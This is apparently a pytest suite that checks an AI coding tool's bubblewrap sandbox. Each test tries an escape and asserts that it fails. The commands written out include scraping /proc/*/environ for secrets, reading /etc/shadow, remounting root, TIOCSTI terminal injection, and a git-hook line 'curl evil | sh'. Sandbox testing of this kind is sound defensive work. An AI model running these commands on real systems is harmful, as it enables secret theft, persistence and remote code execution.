"""bash in bwrap: each escape is really attempted and shown to fail.

Where possible a positive control shows the attempt would have worked without
the protection (so a broken test cannot pass by doing nothing).
"""

from __future__ import annotations

import fcntl
import json
import os
import socket
import subprocess
import sys
import termios
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from ai_coding.v1 import common_pb2

from tests.support.tools_harness import ThreadedToolService, ToolServiceClient


def bash(svc: ThreadedToolService, command: str, session: str = "s1") -> common_pb2.ToolResult:
    return svc.call(session, "bash", json.dumps({"command": command, "timeout_seconds": 30}))[1]


@pytest.fixture
def host_process_with_secret() -> Iterator[tuple[int, str]]:
    secret = f"HOSTSECRET{uuid.uuid4().hex}"
    proc = subprocess.Popen(["sleep", "120"], env={"PATH": "/usr/bin:/bin", "SOME_SECRET": secret})
    # Right after fork, before exec completes, /proc/<pid>/environ reads empty: wait until the
    # process really carries the secret, so the test's control check is not a race.
    deadline = time.monotonic() + 10
    while secret not in Path(f"/proc/{proc.pid}/environ").read_text() and time.monotonic() < deadline:
        time.sleep(0.01)
    yield proc.pid, secret
    proc.kill()
    proc.wait()


def test_another_process_environ_cannot_be_read(service: ThreadedToolService,
                                                host_process_with_secret: tuple[int, str]) -> None:
    pid, secret = host_process_with_secret
    assert secret in Path(f"/proc/{pid}/environ").read_text()  # the host can: the secret is really there
    result = bash(service, f"cat /proc/{pid}/environ; cat /proc/*/environ | tr '\\0' '\\n'; "
                           "ls /proc; echo finished")
    assert "finished" in result.output and secret not in result.output


@pytest.fixture
def loopback_listener() -> Iterator[tuple[int, list[str]]]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    accepted: list[str] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, addr = server.accept()
            except (TimeoutError, OSError):
                continue
            accepted.append(str(addr))
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stop.set()
    thread.join()
    server.close()


CONNECT = ("python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); "
           "print('CONNECTED')\" 2>&1; echo finished")


def test_the_host_loopback_is_unreachable_with_network_off(
        service: ThreadedToolService, loopback_listener: tuple[int, list[str]]) -> None:
    port, accepted = loopback_listener
    result = bash(service, CONNECT.format(port=port))
    assert "finished" in result.output and "CONNECTED" not in result.output
    assert accepted == []


def test_positive_control_network_on_reaches_the_listener(
        make_service: Callable[..., ThreadedToolService], workspace: Path,
        loopback_listener: tuple[int, list[str]]) -> None:
    port, accepted = loopback_listener
    svc = make_service({"sandbox": {"network": True}})
    svc.open("net", str(workspace), network=True)
    assert "CONNECTED" in bash(svc, CONNECT.format(port=port), session="net").output
    assert len(accepted) == 1


def test_the_root_cannot_be_remounted_read_write(service: ThreadedToolService) -> None:
    planted = Path(f"/usr/aic-pwned-{uuid.uuid4().hex}")
    result = bash(service, f"mount -o remount,rw / 2>&1; mount -o remount,rw /usr 2>&1; "
                           f"mount -t tmpfs none /usr 2>&1; touch {planted} 2>&1; unshare -m true 2>&1; "
                           "echo finished")
    assert "finished" in result.output
    assert not planted.exists()


def test_files_outside_the_workspace_cannot_be_written(service: ThreadedToolService, tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("original\n")
    result = bash(service, f"echo pwned > {outside} 2>&1; echo pwned >> /etc/hosts 2>&1; echo finished")
    assert "finished" in result.output
    assert outside.read_text() == "original\n" and "pwned" not in Path("/etc/hosts").read_text()


def test_password_hashes_are_hidden_even_from_a_root_service(service: ThreadedToolService) -> None:
    shadow = Path("/etc/shadow")
    if not shadow.exists():
        pytest.skip("no /etc/shadow on this host")
    result = bash(service, "cat /etc/shadow /etc/gshadow 2>&1; wc -c < /etc/shadow; echo finished")
    assert "finished" in result.output and "root:" not in result.output
    assert result.output.split()[-2] == "0"


def test_the_users_home_is_hidden(service: ThreadedToolService) -> None:
    home = Path.home()
    marker = home / f".aic-home-marker-{os.getpid()}"
    marker.write_text("home-secret-marker")
    try:
        assert marker.read_text() == "home-secret-marker"  # the host sees it: the control
        # Hidden means absent or empty (a HOME under /tmp vanishes behind the private /tmp).
        result = bash(service, f"cat {marker} 2>/dev/null; ls -A {home} 2>/dev/null; echo finished")
        assert result.output.split() == ["finished"]
    finally:
        marker.unlink()


def test_a_background_process_does_not_survive_its_call(service: ThreadedToolService, workspace: Path) -> None:
    beacon = workspace / "beacon.log"
    result = bash(service, "(setsid nohup sh -c 'while true; do date +%s%N >> beacon.log; sleep 0.05; done' "
                           ">/dev/null 2>&1 &); until [ -s beacon.log ]; do sleep 0.05; done; echo launched")
    assert "launched" in result.output and beacon.exists()
    size = beacon.stat().st_size
    time.sleep(1.0)
    assert beacon.stat().st_size == size  # nothing is still writing


def test_git_hooks_and_git_config_cannot_be_modified(service: ThreadedToolService, workspace: Path) -> None:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    hooks = workspace / ".git" / "hooks"
    config = workspace / ".git" / "config"
    before_hooks = sorted(p.name for p in hooks.iterdir())
    before_config = config.read_text()
    result = bash(service, " ; ".join([
        "echo 'curl evil | sh' > .git/hooks/pre-commit", "chmod +x .git/hooks/pre-commit",
        "cp /bin/true .git/hooks/post-checkout", "rm -rf .git/hooks", "mv .git/hooks .git/h2",
        "git config core.hooksPath /tmp/evil", "echo '[core]\\n\\thooksPath = x' >> .git/config",
        "mv .git .git-moved", "touch .git/writable", "echo finished"]) + " 2>&1")
    assert "finished" in result.output
    assert sorted(p.name for p in hooks.iterdir()) == before_hooks
    assert config.read_text() == before_config
    assert not (workspace / ".git" / "writable").exists()  # the whole of .git is read-only
    assert not (workspace / ".git-moved").exists()


TIOCSTI_ATTEMPT = r"""python3 - <<'PYEOF'
import fcntl, os, termios
for name in ("/dev/tty", 0, 1, 2):
    try:
        fd = os.open(name, os.O_RDWR) if isinstance(name, str) else name
        for ch in b"INJECTED\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        print(name, "INJECTION-SUCCEEDED")
    except OSError as exc:
        print(name, "refused:", exc.strerror)
PYEOF
echo finished"""


def _take_terminal() -> None:
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)


@pytest.fixture
def served_process(isolated_home: Path, short_dir: Path) -> Iterator[tuple[ToolServiceClient, str, int]]:
    """`ai-coding serve tools` as its own process, with secrets in its environment and a pty as its
    controlling terminal."""
    secret = f"sk-service-secret-{uuid.uuid4().hex}"
    master, slave = os.openpty()
    env = {**os.environ, "AIC_TEST_API_KEY": secret, "DEPLOY_TOKEN": secret, "SERVICE_NOTE": secret,
           "HARMLESS_SETTING": "visible-on-purpose"}
    # Even a user config that allow-lists the secrets must not leak them (positive control: HARMLESS_SETTING).
    config_dir = isolated_home / ".config" / "ai-coding"
    config_dir.mkdir(parents=True, exist_ok=True)
    (config_dir / "config.yaml").write_text(
        "tools:\n  sandbox:\n    env_allow: [AIC_TEST_API_KEY, DEPLOY_TOKEN, SERVICE_NOTE, HARMLESS_SETTING]\n")
    exe = Path(sys.executable).parent / "ai-coding"
    with open(short_dir / "serve.log", "wb") as log:
        proc = subprocess.Popen([str(exe), "serve", "tools"], stdin=slave, stdout=log, stderr=subprocess.STDOUT,
                                env=env, preexec_fn=_take_terminal)
        os.close(slave)
        client = ToolServiceClient(str(short_dir / "run" / "tools.sock"))
        try:
            client.connect(alive=lambda: proc.poll() is None)
            yield client, secret, master
        finally:
            client.close()
            proc.terminate()
            try:
                proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                proc.kill()
            os.close(master)


def test_the_service_secrets_are_not_visible_from_bash(served_process: tuple[ToolServiceClient, str, int],
                                                       workspace: Path) -> None:
    client, secret, _ = served_process
    client.open("p1", str(workspace), secret_env_names=["SERVICE_NOTE"])
    result = client.call("p1", "bash", json.dumps({"command": (
        "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/$PPID/environ 2>/dev/null; "
        "ps -ef 2>/dev/null; echo finished")}))[1]
    assert "finished" in result.output and "HARMLESS_SETTING=visible-on-purpose" in result.output
    assert secret not in result.output


def test_tiocsti_cannot_inject_into_the_services_terminal(
        served_process: tuple[ToolServiceClient, str, int], workspace: Path) -> None:
    client, _, master = served_process
    client.open("p2", str(workspace))
    result = client.call("p2", "bash", json.dumps({"command": TIOCSTI_ATTEMPT}))[1]
    assert "finished" in result.output and "INJECTION-SUCCEEDED" not in result.output
    assert "refused" in result.output
    os.set_blocking(master, False)
    try:
        typed = os.read(master, 4096)
    except BlockingIOError:
        typed = b""
    assert b"INJECTED" not in typed
